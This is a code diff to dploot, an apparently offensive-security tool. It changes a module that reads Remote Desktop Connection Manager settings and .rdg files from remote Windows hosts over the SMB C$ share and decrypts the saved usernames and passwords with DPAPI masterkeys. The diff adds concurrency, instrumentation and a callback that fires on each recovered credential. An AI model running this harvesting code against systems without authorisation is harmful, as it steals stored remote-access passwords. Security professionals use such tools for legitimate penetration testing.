@@ -1,12 +1,12 @@
 import logging
-import ntpath
-from typing import Any, List, Tuple
+from typing import Any, Callable, List, Tuple
 import xml.etree.ElementTree as ET
 import base64
 from dataclasses import dataclass
 
 from dploot.lib.dpapi import decrypt_blob, find_masterkey_for_blob
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument
 from dploot.lib.target import Target
 from dploot.triage.masterkeys import Masterkey
 
@@ -47,12 +47,14 @@ class RDGCred:
 
 @dataclass
 class RDCMANFile:
+    __slots__ = ('winuser', 'filepath', 'rdg_creds')
     winuser: str
     filepath: str
     rdg_creds: List[RDGCred]
 
 @dataclass
 class RDGFile:
+    __slots__ = ('winuser', 'filepath', 'rdg_creds')
     winuser: str
     filepath: str
     rdg_creds: List[RDGCred]
@@ -60,39 +62,40 @@ class RDGFile:
 class RDGTriage:
 
     false_positive = ['.','..', 'desktop.ini','Public','Default','Default User','All Users']
-    user_rdcman_settings_generic_filepath = 'Users\\%s\\AppData\\Local\\Microsoft\\Remote Desktop Connection Manager\\RDCMan.settings'
-    user_rdg_generic_filepath = ['Users\\%s\\Documents','Users\\%s\\Desktop']
+    user_rdcman_settings_generic_filepath = '%s\\AppData\\Local\\Microsoft\\Remote Desktop Connection Manager\\RDCMan.settings'
+    user_rdg_generic_filepath = ['%s\\Documents','%s\\Desktop']
     share = 'C$'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey]) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], per_finding_callback: Callable[[RDGCred], None] = None) -> None:
         self.target = target
         self.conn = conn
         
         self._users = None
         self.looted_files = dict()
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
 
+    def found(self, rdg_cred: RDGCred) -> RDGCred:
+        ''' Hands rdg_cred to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(rdg_cred)
+        return rdg_cred
+
+    @instrument()
     def triage_rdcman(self) -> Tuple[List[RDCMANFile], List[RDGFile]]:
         rdcman_files = list()
         rdgfiles = list()
-        for user in self.users:
-            try:
-                rdcman_user_file, rdg_user_files = self.triage_rdcman_for_user(user)
-                rdcman_files.append(rdcman_user_file)
-                rdgfiles += rdg_user_files
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                    logging.debug(str(e))
-                pass
+        for rdcman_user_file, rdg_user_files in self.conn.map(self.triage_rdcman_for_user, self.users):
+            rdcman_files.append(rdcman_user_file)
+            rdgfiles += rdg_user_files
         return rdcman_files, rdgfiles
 
+    @instrument()
     def triage_rdcman_for_user(self, user: str) -> Tuple[RDCMANFile, List[RDGFile]]:
         rdcman_file = None
         rdgfiles = list()
         try:
-            user_rcdman_settings_filepath = self.user_rdcman_settings_generic_filepath % user
+            user_rcdman_settings_filepath = self.user_rdcman_settings_generic_filepath % self.conn.user_profile_path(user)
             rdcmanblob_bytes = self.conn.readFile(self.share,user_rcdman_settings_filepath)
             if rdcmanblob_bytes:
                 logging.debug("Found RDCMan Settings for %s user" %  (user))
@@ -118,55 +121,58 @@ class RDGTriage:
             pass
         return rdcman_file, rdgfiles
 
+    @instrument()
     def triage_rdgprofile(self, rdgxml: ET.Element) -> List[RDGCred]:
         rdg_creds = list()
         for cred_profile in rdgxml.findall('.//credentialsProfile'):
             if cred_profile is not None:
                 profile_name, username, password = self.triage_credprofile(cred_profile)
-                rdg_creds.append(RDGCred(
+                rdg_creds.append(self.found(RDGCred(
                     type='cred',
                     profile_name=profile_name,
                     username=username,
                     password=password,
-                ))
+                )))
 
         for server_profile in rdgxml.findall('.//server'):
             server_name = server_profile.find('.//properties//name').text
             for item in server_profile.findall('.//logonCredentials'):
                 profile_name, username, password = self.triage_credprofile(item)
-                rdg_creds.append(RDGCred(
+                rdg_creds.append(self.found(RDGCred(
                     type='server',
                     profile_name=profile_name,
                     server_name=server_name,
                     username=username,
                     password=password,
-                ))
+                )))
         return rdg_creds
 
 
+    @instrument()
     def triage_rdcman_settings(self, rdcman_settings : ET.Element) -> List[RDGCred]:
         rdcman_creds = list()
         for cred_profile in rdcman_settings.findall('.//credentialsProfile'):
             if cred_profile is not None:
                 profile_name, username, password = self.triage_credprofile(cred_profile)
-                rdcman_creds.append(RDGCred(
+                rdcman_creds.append(self.found(RDGCred(
                     type='cred',
                     profile_name=profile_name,
                     username=username,
                     password=password,
-                ))
+                )))
 
         for cred_profile in rdcman_settings.findall('.//logonCredentials'):
             if cred_profile is not None:
                 profile_name, username, password = self.triage_credprofile(cred_profile)
-                rdcman_creds.append(RDGCred(
+                rdcman_creds.append(self.found(RDGCred(
                     type='logon',
                     profile_name=profile_name,
                     username=username,
                     password=password,
-                ))
+                )))
         return rdcman_creds
 
+    @instrument()
     def triage_credprofile(self, cred_node: ET.Element) -> Tuple[str, str, Any]:
         profile_name = cred_node.find('.//profileName').text
         full_username = ''
@@ -194,15 +200,7 @@ class RDGTriage:
     def users(self) -> List[str]:
         if self._users is not None:
             return self._users
-        
-        users = list()
 
-        users_dir_path = 'Users\\*'
-        directories = self.conn.listPath(shareName=self.share, path=ntpath.normpath(users_dir_path))
-        for d in directories:
-            if d.get_longname() not in self.false_positive and d.is_directory() > 0:
-                users.append(d.get_longname())
-    
-        self._users = users
+        self._users = [profile.username for profile in self.conn.list_user_profiles()]
 
         return self._users
\ No newline at end of file